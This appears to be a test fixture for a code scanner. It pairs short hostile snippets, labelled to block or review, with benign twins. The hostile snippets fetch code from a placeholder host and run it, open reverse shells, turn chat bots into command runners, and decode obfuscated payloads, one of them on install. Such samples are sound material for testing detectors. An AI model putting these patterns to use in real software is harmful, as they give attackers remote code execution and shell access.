"""Samples and twins of programs that hear from others otherwise than by a request, and of modules made of a text."""

from inspection.rules.sample import Sample, js, package, py

_ASK = "await (await fetch('https://a.invalid')).text()"

HOSTILE: dict[str, dict[str, Sample]] = {
    "remote_code": {
        "a cell of the notebook it runs in": py(
            "import requests\nget_ipython().run_cell(requests.get('https://a.invalid').text)\n"
        ),
        "an expression for a table": py(
            "import pandas, requests\npandas.read_csv('a.csv').query(requests.get('https://a.invalid').text)\n"
        ),
        "a field of a dataclass, in another file": Sample(
            {
                "app.py": "import requests\nfrom order import Order\n"
                "Order(1, requests.get('https://a.invalid').text).obey()\n",
                "order.py": "from dataclasses import dataclass\n@dataclass(frozen=True)\nclass Order:\n    n: int\n"
                "    text: str\n    def obey(self): exec(self.text)\n",
            },
            "block",
            ("order.py", 6),
        ),
        "through the names of a package": Sample(
            {
                "main.py": "from a import take\nexec(take())\n",
                "a/__init__.py": "from .net import ask as take\n",
                "a/net.py": "import requests\ndef ask():\n    return requests.get('https://a.invalid').text\n",
            },
            "block",
            ("a/net.py", 3),
        ),
        "through an index of modules": Sample(
            {
                "main.ts": "import { get, run } from './lib';\nrun(await get());\n",
                "lib/index.ts": "export { take as get } from './net';\nexport * from './core';\n",
                "lib/net.ts": f"export const take = async () => {_ASK};\n",
                "lib/core.ts": "export const run = (text: string) => eval(text);\n",
            },
            "block",
            ("lib/core.ts", 1),
        ),
        "an object of another file is called": Sample(
            {
                "main.py": "import requests\nfrom run import Runner\nRunner()(requests.get('https://a.invalid').text)\n",
                "run.py": "class Runner:\n    def __call__(self, text): exec(text)\n",
            },
            "block",
            ("run.py", 2),
        ),
        "a loader of the import system": py(
            "import importlib.abc, requests\nclass A(importlib.abc.SourceLoader):\n    def get_data(self, path):\n"
            "        return requests.get('https://a.invalid').content\n",
            line=4,
        ),
        "a module is written, then imported": py(
            "import requests\nopen('plug.py', 'w').write(requests.get('https://a.invalid').text)\nimport plug\n", line=3
        ),
        "what a downloader prints": py(
            "import subprocess\nexec(subprocess.check_output(['curl', '-s', 'https://a.invalid']))\n"
        ),
        "a table behind an address": py("import pandas\nexec(pandas.read_csv('https://a.invalid/a.csv').iloc[0, 0])\n"),
        "a stream of asyncio": py(
            "import asyncio\nasync def go():\n    reader, writer = await asyncio.open_connection('a.invalid', 1)\n"
            "    exec(await reader.read())\nasyncio.run(go())\n",
            line=4,
        ),
        "chunks in a list": js(
            "const https = require('https'); const b = [];\nhttps.get('https://a.invalid', r =>"
            " r.on('data', d => b.push(d)).on('end', () =>\n  eval(Buffer.concat(b).toString())));\n",
            line=3,
        ),
        "a handler that is assigned": js(
            "const w = new WebSocket('wss://a.invalid');\nw.onmessage = e => eval(e.data);\n"
        ),
        "a module of a text": Sample(
            {"a.mjs": f"const t = {_ASK};\nawait import(`data:text/javascript,${{encodeURIComponent(t)}}`);\n"},
            "block",
            ("a.mjs", 2),
        ),
        "a worker of a text": Sample(
            {"a.mjs": f"const t = {_ASK};\nnew Worker(URL.createObjectURL(new Blob([t])));\n"}, "block", ("a.mjs", 2)
        ),
        "to an interpreter that waits": py(
            "import requests, subprocess\np = subprocess.Popen(['python'], stdin=subprocess.PIPE)\n"
            "p.communicate(requests.get('https://a.invalid').content)\n",
            line=3,
        ),
        "to a shell, as it is started": js(
            "const cp = require('child_process');\n"
            "fetch('https://a.invalid').then(r => r.text()).then(t => cp.execSync('sh', { input: t }));\n"
        ),
        "into memory": py(
            "import ctypes, requests\nb = requests.get('https://a.invalid').content\n"
            "ctypes.windll.kernel32.RtlMoveMemory(0, b, len(b))\n",
            line=3,
        ),
        "when a picture cannot be shown": Sample(
            {"a.html": "<p>\n<img src=x onerror=\"fetch('https://a.invalid').then(r => r.text()).then(eval)\">\n"},
            "block",
            ("a.html", 2),
        ),
        "a module behind an address": Sample(
            {"a.mjs": "import x from 'https://a.invalid/x.mjs';\nx();\n"}, "review", ("a.mjs", 1)
        ),
        "a function's own constructor": js(
            "const F = Object.getPrototypeOf(async function () {}).constructor;\n"
            "fetch('https://a.invalid').then(r => r.json()).then(j => F(j.c)());\n"
        ),
    },
    "disguised_program": {
        "a field of settings is run": Sample(
            {"app.py": "import json\nexec(json.load(open('a.json'))['x'])\n", "a.json": '{"x": "1"}'},
            "review",
            ("app.py", 2),
        ),
        "a column of a table is run, on install": Sample(
            {
                "setup.py": "import csv\nfor row in csv.reader(open('a.csv')):\n    exec(row[1])\n",
                "a.csv": "a,print(1)\n",
            },
            "block",
            ("setup.py", 3),
        ),
        "a picture's points are run": Sample(
            {
                "app.py": "from PIL import Image\nexec(''.join(chr(p[0]) for p in Image.open('a.png').getdata()))\n",
                "a.png": "x",
            },
            "block",
            ("app.py", 2),
        ),
    },
    "remote_command": {
        "a chat gives orders": py(
            "import os, telebot\nbot = telebot.TeleBot('0')\n@bot.message_handler(func=lambda m: True)\n"
            "def hear(m): os.system(m.text)\n",
            line=4,
        ),
        "a class that listens to a chat": py(
            "import discord, subprocess\nclass A(discord.Client):\n    async def on_message(self, message):\n"
            "        subprocess.getoutput(message.content)\n",
            line=4,
        ),
        "an event of a socket": js(
            "const { io } = require('socket.io-client'), { exec } = require('child_process');\n"
            "io('https://a.invalid').on('cmd', ({ c }, done) => exec(c, done));\n"
        ),
        "a chat gives orders, in JavaScript": js(
            "const { Client } = require('discord.js'), cp = require('child_process'); const c = new Client({});\n"
            "c.on('messageCreate', m => cp.exec(m.content));\n"
        ),
        "a shell's input": js(
            "const net = require('net'), sh = require('child_process').spawn('/bin/sh');\n"
            "const c = net.connect(1, 'a.invalid', () => c.pipe(sh.stdin));\n"
        ),
        "unpacked, then run": py(
            "import tarfile, subprocess, urllib.request\n"
            "urllib.request.urlretrieve('https://a.invalid', '/tmp/a.tgz')\n"
            "tarfile.open('/tmp/a.tgz').extractall('/tmp/a')\nsubprocess.run(['/tmp/a/run'])\n",
            line=4,
        ),
    },
    "remote_template": {
        "lodash's settings": js(
            "const _ = require('lodash');\n"
            "fetch('https://a.invalid').then(r => r.json()).then(b => _.template('x', { variable: b.v })({}));\n"
        ),
    },
    "remote_control": {
        "a debugger elsewhere": py("import pydevd_pycharm\npydevd_pycharm.settrace('a.invalid', port=1)\n"),
        "a socket for standard input": py(
            "import os, socket, subprocess\ns = socket.create_connection(('a.invalid', 1))\nos.dup2(s.fileno(), 0)\n"
            "subprocess.call(['/bin/sh', '-i'])\n",
            line=3,
        ),
        "a debugger for everyone, in code": Sample(
            {"main.py": "import debugpy\ndebugpy.listen(('0.0.0.0', 5678))\n"}, "review", ("main.py", 2)
        ),
    },
    "decoded_code": {
        "letters that nobody sees": js(
            "const d = t => [...t].map(c => c.codePointAt(0) - 0xe0100).filter(c => c > 0);\n"
            "const s = d('" + "".join(chr(0xE0100 + ord(each)) for each in "1+1") + "');\n"
            "eval(Buffer.from(s).toString());\n",
            line=2,
        ),
        "a shuffle of one's own": js(
            "const d = t => { let r = ''; for (let a = 0; a < t.length; a += 2) r += t[a]; return r; };\n"
            "const s = d('1x+x1x;x(x1x)x');\neval(s);\n",
        ),
        "arithmetic of one's own, on install": Sample(
            {
                "package.json": package(postinstall="node a.js"),
                "a.js": "const p = [48, 42, 48];\nconst g = a => a.map(v => String.fromCharCode(v ^ 1)).join('');\n"
                "eval(g(p));\n",
            },
            "block",
            ("a.js", 3),
        ),
        "a number list beside it": py(
            "K = [71, 72, 73, 74, 75, 76, 77]\ndef o(n):\n    return ''.join(chr(k - n) for k in K)\nexec(o(22))\n",
            line=4,
        ),
    },
}

HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
    "remote_code": {
        "a cell of its own": {
            "app.py": "import requests\nrequests.get('https://a.invalid')\nget_ipython().run_cell('1')\n"
        },
        "a table is asked in its own words": {
            "app.py": "import pandas, requests\nrequests.get('https://a.invalid')\n"
            "pandas.read_csv('a.csv').query('x > 1')\n"
        },
        "a field of a dataclass is shown": {
            "app.py": "import requests\nfrom order import Order\nOrder(1, requests.get('https://a.invalid').text).show()\n",
            "order.py": "from dataclasses import dataclass\n@dataclass\nclass Order:\n    n: int\n    text: str\n"
            "    def show(self):\n        exec('x = 1')\n        return self.text\n",
        },
        "through an index, and shown": {
            "main.ts": "import { get, run } from './lib';\nrun('1');\nconsole.log(await get());\n",
            "lib/index.ts": "export { take as get } from './net';\nexport * from './core';\n",
            "lib/net.ts": f"export const take = async () => {_ASK};\n",
            "lib/core.ts": "export const run = (text: string) => eval(text);\n",
        },
        "another name of the same package": {
            "main.py": "from a import give, take\nexec(give())\nprint(take())\n",
            "a/__init__.py": "from .net import take\nfrom .own import give\n",
            "a/net.py": "import requests\ndef take():\n    return requests.get('https://a.invalid').text\n",
            "a/own.py": "def give():\n    return 'x = 1'\n",
        },
        "a loader of files": {
            "app.py": "import importlib.abc, requests\nrequests.get('https://a.invalid')\n"
            "class A(importlib.abc.SourceLoader):\n    def get_data(self, path):\n        return open(path).read()\n"
        },
        "data is written, and a module imported": {
            "app.py": "import requests\nopen('plug.json', 'w').write(requests.get('https://a.invalid').text)\n"
            "import plug\n"
        },
        "a table behind an address is shown": {
            "app.py": "import pandas\nprint(pandas.read_csv('https://a.invalid/a.csv').eval('x + 1'))\n"
        },
        "a module of a public server": {"a.mjs": "import x from 'https://esm.sh/react@19';\nx();\n"},
        "a worker of the project": {
            "a.mjs": "fetch('https://a.invalid');\nnew Worker(new URL('./b.js', import.meta.url));\n",
            "b.js": "1;\n",
        },
        "a picture of a text": {
            "a.mjs": f"const t = {_ASK};\nimg.src = URL.createObjectURL(new Blob([t]));\nawait import('./b.mjs');\n",
            "b.mjs": "1;\n",
        },
        "a message is read": {
            "app.js": "const w = new WebSocket('wss://a.invalid');\nw.onmessage = e => JSON.parse(e.data);\n"
        },
    },
    "disguised_program": {
        "settings are read beside fixed code": {
            "app.py": "import json\nx = json.load(open('a.json'))['x']\nexec('y = 1')\n",
            "a.json": '{"x": "1"}',
        },
        "a version is run from a source": {"setup.py": "exec(open('version.py').read())\n", "version.py": "v = 1\n"},
        "a picture's points are counted": {
            "app.py": "from PIL import Image\nprint(sum(p[0] for p in Image.open('a.png').getdata()))\nexec('y = 1')\n",
            "a.png": "x",
        },
    },
    "remote_command": {
        "a download is piped to a converter": {
            "app.js": "const ff = require('child_process').spawn('ffmpeg', ['-i', '-']);\n"
            "require('https').get('https://a.invalid', r => r.pipe(ff.stdin));\n"
        },
        "a shell is sent a fixed script": {
            "app.py": "import requests, subprocess\nrequests.get('https://a.invalid')\n"
            "subprocess.run(['sh'], input='echo hi', text=True)\n"
        },
        "a chat is answered": {
            "app.py": "import os, telebot\nbot = telebot.TeleBot('0')\nos.system('git status')\n"
            "@bot.message_handler(func=lambda m: True)\ndef hear(m): bot.reply_to(m, m.text)\n"
        },
        "unpacked and read": {
            "app.py": "import tarfile, subprocess, urllib.request\n"
            "urllib.request.urlretrieve('https://a.invalid', '/tmp/a.tgz')\n"
            "tarfile.open('/tmp/a.tgz').extractall('/tmp/a')\nsubprocess.run(['git', 'status'])\n"
        },
        "a socket is piped to the screen": {
            "app.js": "const net = require('net'), sh = require('child_process').spawn('ls');\n"
            "const c = net.connect(1, 'a.invalid', () => c.pipe(process.stdout));\n"
        },
    },
    "remote_template": {
        "lodash with settings of one's own": {
            "app.js": "const _ = require('lodash');\n"
            "fetch('https://a.invalid').then(r => r.json()).then(b => _.template('x', { variable: 'v' })(b));\n"
        },
    },
    "remote_control": {
        "a debugger on this machine": {"main.py": "import debugpy\ndebugpy.listen(('127.0.0.1', 5678))\n"},
        "a file for standard output": {"main.py": "import os\nos.dup2(open('a.log', 'w').fileno(), 1)\n"},
    },
    "decoded_code": {
        "emoji with their variants": {
            "app.js": "const s = '\u2764\ufe0f \u2b50\ufe0f';\neval('1');\nconsole.log(s);\n"
        },
        "a function of one's own is given a name": {
            "app.js": "const d = t => { let r = ''; for (const a of t) r += a; return r; };\n"
            "eval(d('some_ordinary_name'));\n"
        },
        "numbers that are shown": {
            "app.py": "K = [71, 72, 73, 74, 75, 76, 77]\nprint(''.join(chr(k - 22) for k in K))\nexec('x = 1')\n"
        },
    },
}
